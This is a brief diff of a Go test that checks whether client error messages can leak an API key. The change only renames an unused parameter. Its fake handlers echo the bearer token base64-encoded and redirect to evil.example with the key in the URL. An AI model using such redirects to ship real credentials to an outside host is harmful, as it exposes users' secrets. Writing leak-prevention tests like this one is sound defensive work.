@@ -90,7 +90,7 @@ func TestErrorsNeverShowTheSecret(t *testing.T) {
 			key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
 			respond(400, apiError(400, base64.StdEncoding.EncodeToString([]byte(key))))(w, r)
 		},
-		"redirect": func(w http.ResponseWriter, r *http.Request) {
+		"redirect": func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Location", "https://evil.example/"+url.PathEscape(testKey)+"?k="+testKey)
 			w.WriteHeader(http.StatusFound)
 		},
